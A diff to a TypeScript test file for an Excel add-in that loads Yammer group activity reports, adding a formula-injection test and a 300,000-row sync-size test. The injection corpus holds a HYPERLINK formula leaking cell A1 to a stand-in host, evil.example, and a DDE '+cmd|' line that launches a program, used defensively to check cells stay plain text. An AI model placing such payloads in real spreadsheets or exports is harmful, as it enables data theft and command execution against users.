@@ -121,3 +121,56 @@ describe("cancelling", () => {
     expect(sim.workbook.tables()).toEqual([]);
   });
 });
+
+describe("formula injection", () => {
+  const CORPUS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1", // full-width equals sign
+    "=",
+    "'=1",
+    "TRUE",
+    "1E3",
+  ];
+
+  it.each([true, false])(
+    "never becomes a formula and round-trips exactly (text format blocks formulas: %s)",
+    async (blocks) => {
+      const { sim, host } = simulatedExcel({ host: "web", textFormatBlocksFormulas: blocks });
+      const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
+      const csv =
+        "Report Refresh Date,Group Display Name,Owner Principal Name,Report Period\r\n" +
+        CORPUS.map((text) => `2024-05-03,${quote(text)},${quote(text)},7`).join("\r\n") +
+        "\r\n";
+      const report = await parseReport(csv, "getYammerGroupsActivityDetail");
+      const { sheetName, tableName } = await insertReportTable(host, report);
+      const table = sim.workbook.table(tableName)!;
+      const group = table.headers.indexOf("Group Display Name");
+      expect(table.rows.map((r) => r[group])).toEqual(CORPUS);
+      const sheet = sim.workbook.sheet(sheetName);
+      for (let row = 2; row < CORPUS.length + 2; row++) expect(sheet.cell(`B${row}`).formula).toBeUndefined();
+    },
+  );
+});
+
+describe("a 300k × 12 report on Excel on the web", () => {
+  it("never exceeds 5 MB per sync and needs at most 1.25× the minimum number of syncs", async () => {
+    const { sim, host } = simulatedExcel({ host: "web" });
+    const report = await parsed("getYammerGroupsActivityDetail", 300_000);
+    expect(report.table.columns).toHaveLength(12);
+    const progress: number[] = [];
+    await insertReportTable(host, report, { onProgress: (p) => progress.push(p.rowsWritten) });
+    const { payloads, syncs } = sim.stats;
+    const total = payloads.reduce((a, b) => a + b, 0);
+    const minimum = Math.ceil(total / LIMIT);
+    expect(Math.max(...payloads)).toBeLessThanOrEqual(LIMIT);
+    expect(syncs / minimum).toBeLessThanOrEqual(1.25);
+    expect(progress.at(-1)).toBe(300_000);
+    expect(progress.length).toBeGreaterThanOrEqual(minimum - 1);
+    expect(sim.workbook.table("YammerGroupsActivityDetail")!.rows).toHaveLength(300_000);
+  }, 120_000);
+});
